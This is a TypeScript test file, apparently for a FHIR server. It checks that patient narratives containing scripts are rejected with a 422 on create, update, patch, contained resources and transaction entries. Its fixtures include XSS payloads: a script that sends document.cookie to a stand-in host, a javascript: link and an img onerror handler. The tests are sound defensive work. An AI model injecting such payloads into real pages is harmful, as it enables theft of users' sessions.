// A clinic page renders the narrative: a resource whose narrative carries a script is refused on every write path,
// with the issue located at the div (issue 16, point 9; narrative.html#xhtml).
import request from 'supertest';
import { startTestServer, type TestServer } from '../support/server';

let s: TestServer;
beforeAll(async () => {
  s = await startTestServer();
});
afterAll(() => s.close());

const FHIR = 'application/fhir+json';
const NS = 'xmlns="http://www.w3.org/1999/xhtml"';
const patient = (div: string): Record<string, unknown> => ({
  resourceType: 'Patient',
  text: { status: 'generated', div },
  gender: 'female',
});
const SCRIPT = `<div ${NS}><p>Patient</p><script>fetch('https://x.example/'+document.cookie)</script></div>`;
const SAFE = `<div ${NS}><p>Patient</p></div>`;

const issues = (res: request.Response): { code: string; expression?: string[]; diagnostics?: string }[] =>
  (res.body as { issue: { code: string; expression?: string[]; diagnostics?: string }[] }).issue;

it('create: 422 with the issue at Patient.text.div; nothing is stored', async () => {
  const res = await request(s.url).post('/fhir/Patient').set('Content-Type', FHIR).send(patient(SCRIPT));
  expect(res.status).toBe(422);
  expect(issues(res)).toContainEqual(
    expect.objectContaining({
      code: 'invariant',
      expression: ['Patient.text.div'],
      diagnostics: expect.stringMatching(/script/),
    }),
  );
  const all = await request(s.url).get('/fhir/Patient?_summary=count').expect(200);
  expect(all.body.total).toBe(0);
});

it('the same resource with a safe narrative is created', async () => {
  await request(s.url).post('/fhir/Patient').set('Content-Type', FHIR).send(patient(SAFE)).expect(201);
});

it('update and patch cannot bring a script in', async () => {
  const created = await request(s.url)
    .post('/fhir/Patient')
    .set('Content-Type', FHIR)
    .send(patient(SAFE))
    .expect(201);
  const id = String(created.body.id);
  const put = await request(s.url)
    .put(`/fhir/Patient/${id}`)
    .set('Content-Type', FHIR)
    .send({ ...patient(`<div ${NS}><a href="javascript:alert(1)">x</a></div>`), id });
  expect(put.status).toBe(422);
  expect(issues(put)).toContainEqual(expect.objectContaining({ expression: ['Patient.text.div'] }));
  const patch = await request(s.url)
    .patch(`/fhir/Patient/${id}`)
    .set('Content-Type', 'application/json-patch+json')
    .send([
      { op: 'replace', path: '/text/div', value: `<div ${NS}><img src="x" onerror="alert(1)"/></div>` },
    ]);
  expect(patch.status).toBe(422);
  expect(issues(patch)).toContainEqual(expect.objectContaining({ expression: ['Patient.text.div'] }));
  const read = await request(s.url).get(`/fhir/Patient/${id}`).expect(200);
  expect(read.body.text.div).toBe(SAFE);
});

it('a contained resource and a transaction entry are checked too', async () => {
  const obs = {
    resourceType: 'Observation',
    status: 'final',
    code: { text: 'x' },
    contained: [{ ...patient(SCRIPT), id: 'p' }],
    subject: { reference: '#p' },
  };
  const res = await request(s.url).post('/fhir/Observation').set('Content-Type', FHIR).send(obs);
  expect(res.status).toBe(422);
  expect(issues(res)).toContainEqual(
    expect.objectContaining({ expression: ['Observation.contained[0].text.div'] }),
  );

  const tx = await request(s.url)
    .post('/fhir')
    .set('Content-Type', FHIR)
    .send({
      resourceType: 'Bundle',
      type: 'transaction',
      entry: [
        { resource: patient(SAFE), request: { method: 'POST', url: 'Patient' } },
        { resource: patient(SCRIPT), request: { method: 'POST', url: 'Patient' } },
      ],
    });
  expect(tx.status).toBe(422);
  expect(issues(tx)).toContainEqual(
    expect.objectContaining({ code: 'invariant', expression: ['Bundle.entry[1].resource.text.div'] }),
  );
});
